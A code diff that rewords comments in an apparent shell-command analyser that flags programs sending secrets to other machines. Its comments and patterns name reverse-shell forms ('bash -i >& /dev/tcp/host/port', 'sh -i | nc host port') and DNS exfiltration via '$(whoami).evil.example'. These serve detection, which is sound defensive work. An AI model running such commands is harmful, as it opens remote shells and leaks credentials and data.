@@ -1,4 +1,4 @@
-/** Programs that carry what they are given to another machine, besides the clients of HTTP which have packs. */
+/** Finds secrets that programs send to another machine. The packs of HTTP clients handle those themselves. */
 
 import type { Effect } from "../../effects/effect.ts";
 import type { Invocation, Stdin } from "../../effects/pack.ts";
@@ -16,12 +16,12 @@ import { networkFile } from "./sockets.ts";
 
 const STDIN = literalWord("-");
 
-/** Whether a program carries what it is given to another machine. */
+/** Returns whether a program sends its input to another machine. */
 export function sends(program: string): boolean {
   return SENDERS.has(program);
 }
 
-/** Effects of a call that sends secrets, or hands files to everybody; empty for all others. */
+/** Returns the effects of a call that sends secrets, or offers files to everybody; empty for other calls. */
 export function secretsSentBy(command: Invocation, facts: Facts): Effect[] {
   const socket =
     command.redirects.length === 0
@@ -36,7 +36,7 @@ export function secretsSentBy(command: Invocation, facts: Facts): Effect[] {
   if (behind) return [remoteShell(command, "whoever is on the other end", behind)];
   const host = sender ? sender.host(words) : socket?.host;
   if (host === undefined || isThisMachine(host)) return [];
-  // The shell holds the connection itself: whatever follows may read from it and write to it.
+  // The shell holds the connection, so later commands may read and write it.
   if (
     socket !== undefined &&
     command.program === "exec" &&
@@ -75,8 +75,8 @@ export function secretsSentBy(command: Invocation, facts: Facts): Effect[] {
 }
 
 /**
- * What any other program is made to tell a host that it names, by a substitution among its words or in what comes in:
- * contents that nobody signs in with.
+ * Finds contents in a substitution or on standard input that any other program sends to a host it names, and that are
+ * no login.
  */
 function toldByTheWay(command: Invocation, facts: Facts): Effect[] {
   const { argv, stdin } = command;
@@ -100,21 +100,21 @@ function toldByTheWay(command: Invocation, facts: Facts): Effect[] {
 const TOLD =
   /^(?:the accounts of this machine|the whole environment|what was typed into the shell|the system's secrets)$/;
 
-/** A bare name is a neighbour in a network of containers; for ssh and its kin it is an alias of any other machine. */
+/** A name without dots is a neighbour in a container network; for ssh and the like it may be an alias of any host. */
 function isNeighbour(host: string, program: string): boolean {
   return isLocalHost(host) && !/^(?:scp|rsync|rcp|sftp|ssh)$/.test(program);
 }
 
-/** `sh -i | nc host port`: what a shell that is typed into answers. */
+/** Matches `sh -i | nc host port`: the output of an interactive shell is sent. */
 function typesOnInput(stdin: Stdin): boolean {
   const [program, ...words] = (stdin.kind === "pipe" && stdin.producer) || [];
   return isShell(programName(program)) && words.some(({ value }) => value === "-i");
 }
 
-/** What is typed into from the other end of a connection. */
+/** Returns whether a program runs what is typed at the other end of a connection. */
 const takesTyping = (program: string): boolean => isShell(program) || /^python[\d.]*$/.test(program);
 
-/** `bash -i >& /dev/tcp/host/port`: whoever listens there types the commands. */
+/** Returns the effect of `bash -i >& /dev/tcp/host/port`: whoever listens there types the commands. */
 function remoteShell({ program, span }: Invocation, host: string, used = "a shell of this machine"): Effect {
   return {
     verb: "execute-remote",
@@ -129,7 +129,7 @@ function remoteShell({ program, span }: Invocation, host: string, used = "a shel
   };
 }
 
-/** What is told to be sent as it is: by `FILE:x` of socat, as an attachment, or by printing it into a socket. */
+/** Returns contents that are sent unchanged: `FILE:x` of socat, an attachment, or output into a socket. */
 function contentNamed({ program, argv, redirects }: Invocation, sender: Sender | undefined): string | undefined {
   const words = argv.slice(1);
   if (sender) return sender.files?.(words).find(({ value }) => !value?.startsWith("/dev/"))?.text;
@@ -143,11 +143,11 @@ function contentNamed({ program, argv, redirects }: Invocation, sender: Sender |
     : undefined;
 }
 
-/** What prints its own words, or nothing. */
+/** Programs that print only their arguments, or nothing. */
 const SAYS = /^(?:echo|printf|:|true|false|exec|timeout|sleep|test|\[|read|yes|seq|date)$/;
 const INTO = /^(?:>>?|>\||&>>?|>&)$/;
 
-/** Whole files on their way in; a typed line or a request is none. */
+/** Returns a whole file on standard input; a typed line or a request does not count. */
 function contentOnInput(stdin: Stdin): string | undefined {
   if (stdin.kind === "file") return knownPrefix(stdin.path).startsWith("/dev/") ? undefined : stdin.path.text;
   if (stdin.kind !== "pipe") return undefined;
@@ -167,7 +167,7 @@ const DNS = new Set(
   ),
 );
 
-/** `$(whoami).evil.example`: what a name server gets to know, also where the shell knows what will stand there. */
+/** Returns parts of host names that reveal data to a name server: `$(whoami).evil.example`. */
 function namesInLabels(words: readonly Word[]): string[] {
   return words.flatMap(({ text }) => {
     const found = /(?:\$\(([^()]{1,500})\)|`([^`]{1,500})`)\.[\w.-]*[a-z]{2}/i.exec(text);
